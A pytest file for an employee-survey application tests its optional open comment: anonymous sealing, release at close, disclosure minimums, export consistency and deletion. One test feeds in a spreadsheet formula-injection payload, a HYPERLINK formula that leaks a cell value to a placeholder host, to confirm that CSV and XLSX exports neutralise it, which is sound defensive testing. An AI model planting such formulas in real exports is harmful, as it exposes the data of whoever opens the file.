"""Employees' voice (issue #26): one optional open question at the end of the questionnaire.

Its answer is saved with the draft, sealed in the ballot with the answers, released onto the
anonymous response at close, shown from the round's comment minimum in a fixed random order on
the results page, in the report and in the exports (neutralised), said in the action plan beside
the customers' comments on the same theme, and removed with the raw answers."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import date, timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from pypdf import PdfReader

from maturity.core import place
from maturity.core.actions import PlanInput
from maturity.extensions import db
from maturity.results.services import DisclosureError, check_disclosure, round_results
from maturity.privacy.retention import purge_round_answers
from maturity.rounds import links, services
from maturity.rounds import customer_responses, inviting, submission
from maturity.results import publication
from maturity.rounds.models import Ballot, Invitation, Response, ResponseAnswer, Round
from maturity.rounds.questionnaire import COMMENT_KEY, MAX_EMPLOYEE_COMMENT, SECTIONS
from maturity.tenancy.models import OrgRole

from ..factories import member
from ..helpers import (CHANCE_BOUND, R, committed_tenant, download, full_answers, invitations_of, invite_and_get_link,
                       matches, opened, physical_position, ranked, round_url, round_with_people, section_form,
                       sqlite_files)
from ..helpers import open_round  # noqa: F401  (a fixture)

QUESTION_NL_OR_EN = ("What would you change tomorrow so that customers notice it?",
                     "Wat zou u morgen veranderen zodat klanten het merken?")


def _voiced(app, world, comments, *, close=True, min_size=5):
    """A round in which one employee per comment submits, with that comment (None: none)."""
    round_ = round_with_people(world, departments={"Wonen": len(comments)}, min_size=min_size)
    with app.test_request_context():
        for invitation, comment in zip(invitations_of(round_), comments):
            token = links.invitation_token(invitation.id, invitation.nonce)
            submission.save_answers(invitation, token, full_answers())
            if comment is not None:
                submission.save_comment(invitation, token, comment)
            submission.submit_response(invitation, token)
        if close:
            publication.close(round_)
    db.session.flush()
    return round_


def _csv_rows(client, world, round_) -> list[list[str]]:
    body = client.get(round_url(world, round_, "results.csv")).get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(body), delimiter=";"))


def _pdf_text(client, world, round_) -> str:
    pdf = PdfReader(io.BytesIO(download(client, round_url(world, round_, "report.pdf")).data))
    return " ".join(" ".join(page.extract_text().split()) for page in pdf.pages)


def _section(page: str, ident: str) -> str:
    start = page.index(f'id="{ident}"')
    return page[start:page.index("</section>", start)]


# The questionnaire ---------------------------------------------------------------------------

def test_the_open_question_follows_the_last_section_and_is_kept_with_the_draft(make_client, world, open_round):
    link = invite_and_get_link(open_round)
    phone = opened(make_client(), link)
    token = phone.csrf_token()
    answers = full_answers()
    for section in SECTIONS[:-1]:
        phone.post(f"{R}section/{section}", data={**section_form(section, answers), "csrf_token": token})
    # After the last section comes the open question, before the review.
    page = phone.post(f"{R}section/{SECTIONS[-1]}",
                      data={**section_form(SECTIONS[-1], answers), "csrf_token": token}).get_data(as_text=True)
    assert '<meta name="page-url" content="/respond/open-question">' in page
    assert any(q in page for q in QUESTION_NL_OR_EN) and f'maxlength="{MAX_EMPLOYEE_COMMENT}"' in page
    idea = "Op vrijdagmiddag de telefoon opnemen.\nEn terugbellen binnen een dag."
    review = phone.post(f"{R}open-question", data={"comment": idea, "go": "next", "csrf_token": token})
    assert review.status_code == 200 and "/respond/review" in review.get_data(as_text=True)
    assert "Op vrijdagmiddag de telefoon opnemen." in review.get_data(as_text=True)
    invitation = db.session.scalars(sa.select(Invitation).where(Invitation.round_id == open_round.id)
                                    .order_by(Invitation.id.desc())).first()
    db.session.refresh(invitation)
    assert b"vrijdagmiddag" not in invitation.sealed_draft  # sealed with the answers
    # Another device with the same link finds it again; going back leads to the last section.
    laptop = opened(make_client(), link)
    again = laptop.get(f"{R}open-question").get_data(as_text=True)
    assert "Op vrijdagmiddag de telefoon opnemen.\nEn terugbellen binnen een dag.</textarea>" in again
    back = laptop.post(f"{R}open-question", data={"comment": idea, "go": "back", "csrf_token": laptop.csrf_token()})
    assert f'content="/respond/section/{SECTIONS[-1]}"' in back.get_data(as_text=True)
    # An expired page keeps what was typed and saves nothing.
    expired = laptop.post(f"{R}open-question", data={"comment": "Iets anders", "csrf_token": "expired"})
    assert expired.status_code == 400 and "Iets anders</textarea>" in expired.get_data(as_text=True)

    response = laptop.post(f"{R}submit", data={"csrf_token": laptop.csrf_token()})
    assert response.status_code == 302 and response.location.endswith("/result")
    # The person sees their own words on their result, in this browser only.
    assert "Op vrijdagmiddag de telefoon opnemen." in laptop.get(f"{R}result").get_data(as_text=True)
    pdf = download(laptop, f"{R}result.pdf")
    assert pdf.status_code == 200
    assert "vrijdagmiddag" in " ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.data)).pages)
    used_link = make_client().get(link)  # the link alone (a forwarded mail) opens nobody's words
    assert used_link.status_code == 200 and "vrijdagmiddag" not in used_link.get_data(as_text=True)
    # Nothing readable before close; at close one anonymous response carries it, not as an answer.
    assert b"vrijdagmiddag" not in db.session.scalars(sa.select(Ballot.sealed)).one()
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Response)) == 0
    publication.close(open_round)
    [stored] = db.session.scalars(sa.select(Response)).all()
    assert stored.comment == idea
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ResponseAnswer)) == len(answers)
    assert db.session.scalar(sa.select(sa.func.count()).where(ResponseAnswer.item_key == COMMENT_KEY)) == 0


def test_the_open_question_is_optional_cleaned_and_at_most_1000_characters(app, world, open_round):
    inviting.invite_employees(open_round)
    first = invitations_of(open_round)[0]
    with app.test_request_context():
        token = links.invitation_token(first.id, first.nonce)
        submission.save_answers(first, token, full_answers())
        assert COMMENT_KEY not in submission.save_comment(first, token, "  \r\n \t ")
        kept = submission.save_comment(first, token, "Eerst\r\nvragen\x07 wat nodig is " + "x" * 2000)[COMMENT_KEY]
        assert kept.startswith("Eerst\nvragen wat nodig is") and len(kept) == MAX_EMPLOYEE_COMMENT
        assert COMMENT_KEY not in submission.save_comment(first, token, "")  # emptied: gone again
        submission.submit_response(first, token)  # no comment: still complete
    publication.close(open_round)
    assert db.session.scalars(sa.select(Response.comment)).all() == [None]


def test_the_longest_comment_seals_to_the_same_length_as_none(app, world):
    """The draft, the own result and the ballot have one length whatever the comment (the
    employee ballot size was raised for it: links.ANSWERS_SIZE)."""
    for _ in range(3):
        member(world.ours.org, OrgRole.EMPLOYEE, world.ours.department)
    round_ = services.create_round(world.ours.org, services.RoundSettings(
        title="R", opens_on=date.today(), closes_on=date.today() + timedelta(days=3), min_group_size=50,
        min_comment_group_size=50))
    services.open_round(round_)
    inviting.invite_employees(round_)
    heaviest = {k: ("dk" if not k.startswith("quiz.") else v) for k, v in full_answers(mark="10").items()}
    lengths = []
    with app.test_request_context():
        for invitation, comment in zip(invitations_of(round_), (None, "😀\"\\" * 400, "a\n" * 500)):
            token = links.invitation_token(invitation.id, invitation.nonce)
            submission.save_answers(invitation, token, heaviest)
            if comment:
                submission.save_comment(invitation, token, comment)
            draft = invitation.sealed_draft
            submission.submit_response(invitation, token)
            lengths.append((len(draft), len(invitation.sealed_result)))
    assert len(set(lengths)) == 1
    assert len({len(s) for s in db.session.scalars(sa.select(Ballot.sealed))}) == 1
    # Even unclean text of the maximum length (6 bytes per character in JSON) fits.
    assert links.seal_ballot({"department_id": 1, "answers": heaviest, "comment": "\x01" * MAX_EMPLOYEE_COMMENT})


# Disclosure ----------------------------------------------------------------------------------

@pytest.mark.parametrize("n, shown", [(9, False), (10, True)])
def test_employee_comments_are_shown_from_the_comment_minimum(app, client, auth, world, n, shown):
    comments = [f"Voorstel {i:02d}: klanten zelf terugbellen" for i in range(n)]
    round_ = _voiced(app, world, comments)
    results = round_results(round_)
    assert results.n_responses == n and results.employee_comment_minimum == 10
    assert (results.employee_comments is not None) is shown
    if shown:
        assert sorted(results.employee_comments) == comments
    auth.login(world.ours.director)
    page = client.get(round_url(world, round_, "results")).get_data(as_text=True)
    section = _section(page, "employee-comments")
    assert ("Voorstel 00" in page) is shown and ("Voorstel 00" in section) is shown
    if not shown:
        assert "(now 9)" in section or "(nu 9)" in section
    assert any(r[0] in ("What employees would change", "Wat medewerkers zouden veranderen")
               for r in _csv_rows(client, world, round_)) is shown
    assert ("Voorstel 00" in _pdf_text(client, world, round_)) is shown


def test_the_disclosure_check_refuses_employee_comments_below_the_minimum(app, world):
    results = round_results(_voiced(app, world, ["Iets"] * 10))
    check_disclosure(results)
    with pytest.raises(DisclosureError, match="employee comments rests on 9"):
        check_disclosure(replace(results, n_responses=9))
    # The round's comment minimum, never below its minimum group size.
    with pytest.raises(DisclosureError, match="employee comments rests on 10"):
        check_disclosure(replace(results, min_comment_size=3, min_size=11))


def test_employee_comments_never_appear_before_close_and_then_in_a_random_order(app, client, auth, world):
    written = [f"Idee {n:02d} voor de klant" for n in range(12)]
    round_ = _voiced(app, world, written, close=False)
    auth.login(world.ours.director)
    for suffix in ("results", "results.csv", "results.xlsx", "report.pdf"):
        response = client.get(round_url(world, round_, suffix))
        assert response.status_code == 409 and b"Idee 0" not in response.data, suffix
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Response)) == 0
    assert not any(b"Idee" in s for s in db.session.scalars(sa.select(Ballot.sealed)))
    with app.test_request_context():
        publication.close(round_)
    shown = round_results(round_).employee_comments
    assert sorted(shown) == written
    assert shown != written and shown != sorted(written, reverse=True)  # not submission, not alphabetical
    assert round_results(round_).employee_comments == shown  # a fixed order: the same on every read


# One truth, and safe exports ------------------------------------------------------------------

def test_page_pdf_csv_and_xlsx_show_the_same_employee_comments_in_the_same_order(app, client, auth, world):
    comments = [f"Voorstel {chr(65 + i)} graag" for i in range(10)] + [None, None]
    round_ = _voiced(app, world, comments)
    expected = round_results(round_).employee_comments
    assert sorted(expected) == sorted(c for c in comments if c)
    auth.login(world.ours.director)
    page = _section(client.get(round_url(world, round_, "results")).get_data(as_text=True), "employee-comments")
    assert re.findall(r"<li>([^<]*)</li>", page) == expected
    rows = _csv_rows(client, world, round_)
    section = next(r[0] for r in rows if r[4] == expected[0])
    assert [r[4] for r in rows if r[0] == section] == expected
    assert all(r[3] == "12" for r in rows if r[0] == section)  # the responses they rest on
    workbook = load_workbook(io.BytesIO(client.get(round_url(world, round_, "results.xlsx")).data))
    sheet = next(s for s in workbook.worksheets if s.title not in ("Alle cijfers (lang)", "All figures (long)")
                 and s.cell(2, 1).value == expected[0])
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == expected
    long_sheet = workbook.worksheets[-1]
    assert [row[4] for row in long_sheet.iter_rows(min_row=2, values_only=True) if row[0] == section] == expected
    text = _pdf_text(client, world, round_)
    positions = [text.index(comment) for comment in expected]
    assert positions == sorted(positions)


def test_a_formula_in_a_comment_stays_text_in_csv_and_xlsx(app, client, auth, world):
    formula = '=HYPERLINK("http://x.example/?leak="&A1,"klik")'
    round_ = _voiced(app, world, [formula, "@SUM(1+1)"] + ["Gewoon een idee"] * 8)
    auth.login(world.ours.director)
    body = client.get(round_url(world, round_, "results.csv")).get_data(as_text=True)
    rows = _csv_rows(client, world, round_)
    assert sorted(["'" + formula, "'@SUM(1+1)"]) == sorted(r[4] for r in rows if r[4].startswith("'"))
    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
    assert ";=HYPERLINK" not in body
    workbook = load_workbook(io.BytesIO(client.get(round_url(world, round_, "results.xlsx")).data))
    values = [c.value for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert "'" + formula in values and not any(isinstance(v, str) and v.startswith(("=", "@")) for v in values)
    # The page and the report show it as typed (escaped HTML, not a formula anywhere).
    assert "=HYPERLINK(&#34;http" in client.get(round_url(world, round_, "results")).get_data(as_text=True)


# Retention -------------------------------------------------------------------------------------

def test_employee_comments_are_removed_with_the_raw_answers(app, client, auth, world):
    marker = "Verwijderbaar voorstel"
    round_ = _voiced(app, world, [f"{marker} {n}: klanten terugbellen" for n in range(10)])
    assert round_results(round_).employee_comments
    auth.login(world.ours.director)
    base = f"/o/{world.ours.org.slug}/rounds/{round_.id}"
    client.submit(f"{base}/plan/generate")
    assert marker in client.get(f"{base}/results").get_data(as_text=True)
    purge_round_answers(round_)
    db.session.flush()
    after = round_results(db.session.get(Round, round_.id))
    assert after.employee_comments is None and after.comments_removed and after.n_responses == 10
    page = client.get(f"{base}/results").get_data(as_text=True)
    assert marker not in page and "employee-comments" in page
    assert marker not in client.get(f"{base}/results.csv").get_data(as_text=True)
    assert marker not in _pdf_text(client, world, round_)
    assert marker not in client.get(f"{base}/plan/").get_data(as_text=True)
    # No copy anywhere: every row of every table, the plan's stored texts too.
    for table in db.metadata.sorted_tables:
        for row in db.session.execute(sa.select(table)).all():
            assert marker not in json.dumps([str(v) for v in row]), table.name


# The action plan ----------------------------------------------------------------------------------

def test_the_plan_says_what_employees_would_change_on_a_theme_beside_the_customers():
    from ..helpers import INSTRUMENT, generate_as_stored, group_profile

    customers = ["Op vrijdagmiddag is er niemand bereikbaar.", "Ik krijg op vrijdag een bandje."]
    employees = ["De telefoon op vrijdag opnemen tot vijf uur.", "Huurders binnen een dag terugbellen.",
                 "Klachten in het team bespreken.", "Elke klacht als tip zien.", "Brieven in gewone taal."]
    plan = PlanInput(place(group_profile(customer=66)), [], [], [], comments=customers, employee_comments=employees)
    result = generate_as_stored(plan, INSTRUMENT)
    [reach] = [p for p in result if p.theme == "reach"]
    assert "2 klanten schreven hierover" in reach.finding.nl
    assert "2 medewerkers noemden dit" in reach.finding.nl and "2 employees named this" in reach.finding.en
    assert "terugbellen" not in reach.finding.nl  # counted, not quoted: quotes are read from the results
    # Employees' suggestions alone start no focus area (it starts from a figure that should move).
    assert not any(p.theme == "criticism" for p in result)
    below = generate_as_stored(replace(plan, employee_comments=None), INSTRUMENT)
    assert "medewerkers" not in next(p for p in below if p.theme == "reach").finding.nl


def test_the_plan_page_quotes_both_groups_labelled_and_stores_no_employee_quote(app, client, auth, world):
    employees = ["Telefoon op vrijdag opnemen", "Binnen een dag terugbellen"] + ["Iets anders"] * 8
    round_ = round_with_people(world, departments={"Wonen": len(employees)})
    with app.test_request_context():
        for invitation, comment in zip(invitations_of(round_), employees):
            token = links.invitation_token(invitation.id, invitation.nonce)
            submission.save_answers(invitation, token, full_answers())
            submission.save_comment(invitation, token, comment)
            submission.submit_response(invitation, token)
        for n in range(10):
            customer_responses.submit_customer_response(round_, {f"mirror.m{j}.customer": "6" for j in range(1, 6)},
                                              "Op vrijdag niemand bereikbaar" if n < 2 else "", "nl")
        publication.close(round_)
    db.session.flush()
    auth.login(world.ours.director)
    base = f"/o/{world.ours.org.slug}/rounds/{round_.id}"
    client.submit(f"{base}/plan/generate")
    from maturity.plans.models import ActionItem

    items = db.session.scalars(sa.select(ActionItem)).all()
    reach = next(i for i in items if (i.generated or {}).get("theme") == "reach")
    assert "2 medewerkers noemden dit" in reach.generated["finding"]["nl"]
    assert not any("Telefoon op vrijdag" in json.dumps(i.generated) for i in items)
    page = client.get(f"{base}/plan/").get_data(as_text=True)
    item = page[page.index(f'id="item-{reach.id}"'):]
    item = item[:item.index("</article>")]
    assert "“Telefoon op vrijdag opnemen”" in item and "“Op vrijdag niemand bereikbaar”" in item
    voices = item[item.index('class="voices"'):]
    employees_at = re.search(r"<strong>(Medewerkers|Employees)</strong>", voices).start()
    customers_at = re.search(r"<strong>(Klanten|Customers)</strong>", voices).start()
    # Each quote under its own group's label.
    assert employees_at < min(voices.index("Telefoon op vrijdag"), voices.index("Binnen een dag"))
    assert max(voices.index("Telefoon op vrijdag"), voices.index("Binnen een dag")) < customers_at
    assert customers_at < voices.index("Op vrijdag niemand bereikbaar")


# The ballot box --------------------------------------------------------------------------------

def test_the_comment_passes_through_the_ballot_box_and_is_stored_with_nothing_that_points_at_its_writer(app):
    """Real commits, as a copy of the database holds them: while open the words are nowhere in
    the clear (not in a table, not in the files); after close each sits on an anonymous response
    in an order that says nothing about who submitted when."""
    people = 12
    with committed_tenant(app, "stem") as tenant:
        for _ in range(people - 1):
            member(tenant.org, OrgRole.EMPLOYEE, tenant.department)
        round_ = services.create_round(tenant.org, services.RoundSettings(
            title="R", opens_on=date.today(), closes_on=date.today() + timedelta(days=3)))
        services.open_round(round_)
        with app.test_request_context():
            inviting.invite_employees(round_)
        db.session.commit()
        round_id = round_.id
        invitations = list(db.session.scalars(sa.select(Invitation).where(Invitation.round_id == round_id)
                                              .order_by(Invitation.id)))
        written = []
        for n, invitation in enumerate(invitations):
            words = f"Stemvoorstel {n:02d}"
            with app.test_request_context():
                token = links.invitation_token(invitation.id, invitation.nonce)
                submission.save_answers(invitation, token, full_answers())
                submission.save_comment(invitation, token, words)
                submission.submit_response(invitation, token)
            db.session.commit()
            written.append(words)
        for table in db.metadata.sorted_tables:
            for row in db.session.execute(sa.select(table)).all():
                assert "Stemvoorstel" not in repr(row), table.name
        if db.engine.dialect.name == "sqlite":
            assert b"Stemvoorstel" not in sqlite_files()
        assert len({len(s) for s in db.session.scalars(sa.select(Ballot.sealed).where(Ballot.round_id == round_id))}) == 1

        assert publication.close_by_worker(round_id) == "closed"
        db.session.expire_all()
        physical = physical_position()
        is_pg = db.engine.dialect.name == "postgresql"
        stored = ranked(db.session.execute(sa.text(
            f"SELECT {physical}{'::text' if is_pg else ''}, comment FROM response WHERE round_id = :r"),
            {"r": round_id}).all())
        assert sorted(stored) == written
        assert matches(written, stored) <= CHANCE_BOUND  # the release order is not the submission order
        by_id = db.session.scalars(sa.select(Response.comment).where(Response.round_id == round_id)
                                   .order_by(Response.id)).all()
        assert matches(written, by_id) <= CHANCE_BOUND
        # Only the response holds the words; nothing on it points at a person, a link or a time.
        columns = {c.name for c in Response.__table__.columns}
        assert not columns & {"user_id", "invitation_id", "created_at", "submitted_at", "email"}
        for table in db.metadata.sorted_tables:
            if table.name == "response":
                continue
            if table.name == "segment_group":  # a shown group's own comments, from the comment minimum
                for row in db.session.execute(sa.select(table)).mappings():
                    assert row["comments"] is None or row["n"] >= 10
                continue
            for row in db.session.execute(sa.select(table)).all():
                assert "Stemvoorstel" not in repr(row), table.name
        assert db.session.scalars(sa.select(Invitation.sealed_draft).where(Invitation.round_id == round_id)).all() \
            == [None] * people
